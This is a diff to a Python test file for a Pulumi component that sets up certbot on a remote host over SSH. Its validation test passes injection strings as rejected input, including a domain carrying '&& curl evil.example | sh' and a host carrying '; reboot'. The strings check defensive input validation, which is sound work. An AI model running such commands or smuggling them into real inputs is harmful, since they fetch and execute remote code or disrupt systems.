@@ -8,11 +8,12 @@ from pulumi.runtime import rpc
 from pulumi_command import remote
 
 from components.certbot import CertbotConfigError, CertbotHost
-from components.certbot.scripts import render_script
+from components.certbot.scripts import as_remote_command, render_script
 from components.certbot.spec import build_spec
 from tests.support.mocks import install_mocks
 
-CERT_STDOUT = "certificate: done\nexpires_at=2031-05-06T07:08:09Z\nserial=0ABC\nhttps_verified=true"
+CERT_STDOUT = ("certificate: done\ncert_name=dreamfactory\nexpires_at=2031-05-06T07:08:09Z\nserial=0ABC\n"
+               "https_verified=true")
 RENEWAL_STDOUT = "renewal_timer=snap.certbot.renew.timer\nrenewal: done (changed=0)"
 
 
@@ -59,12 +60,13 @@ def test_connection_is_secret_and_scripts_are_the_rendered_ones(run):
     component = host()
 
     def check(_):
-        spec = build_spec(domains=["df.example.com", "www.df.example.com"], email="ops@example.com", agree_tos=True)
+        spec = build_spec(domains=["df.example.com", "www.df.example.com"], email="ops@example.com", agree_tos=True,
+                          owner="df-1", host="203.0.113.10")
         for step in ("firewall", "snapd", "certbot", "certificate", "renewal"):
             inputs = run.mocks.named(f"df-1-{step}").inputs
             assert rpc.is_rpc_secret(inputs["connection"])
             assert rpc.unwrap_rpc_secret(inputs["connection"])["hostKey"] == "ssh-ed25519 AAAAC3Nza"
-            assert inputs["create"] == render_script(step, spec)
+            assert inputs["create"] == as_remote_command(render_script(step, spec), sudo=False)
             assert "PRIVATE-KEY-XYZ" not in inputs["create"]
         assert "triggers" not in run.mocks.named("df-1-certificate").inputs
         assert run.mocks.named("df-1-renewal").inputs["triggers"] == ["0ABC"]  # re-verify after a new certificate
@@ -100,9 +102,22 @@ def test_firewall_none_and_a_sudo_user(run):
     return pulumi.Output.all(component.expires_at, component.renewal_timer).apply(check)
 
 
+@pulumi.runtime.test
+def test_a_connection_host_known_only_at_run_time_reaches_the_certificate_script(run):
+    address = pulumi.Output.from_input("198.51.100.7")  # e.g. a VM's public address
+    component = host(name="df-3", connection=remote.ConnectionArgs(host=address, user="root", private_key="K"))
+
+    def check(_):
+        assert "CONNECTION_HOST=198.51.100.7" in run.mocks.named("df-3-certificate").inputs["create"]
+
+    return component.renewal_timer.apply(check)
+
+
 def test_bad_input_registers_nothing(run):
     with pytest.raises(CertbotConfigError, match="'domains'"):
         host(domains=["df.example.com && curl evil.example | sh"])
+    with pytest.raises(CertbotConfigError, match="'connection.host'"):
+        host(connection=remote.ConnectionArgs(host="h; reboot", user="root"))
     with pytest.raises(CertbotConfigError, match="'connection.user'"):
         host(connection=remote.ConnectionArgs(host="h", user=pulumi.Output.from_input("root")))
     assert run.mocks.registrations == []
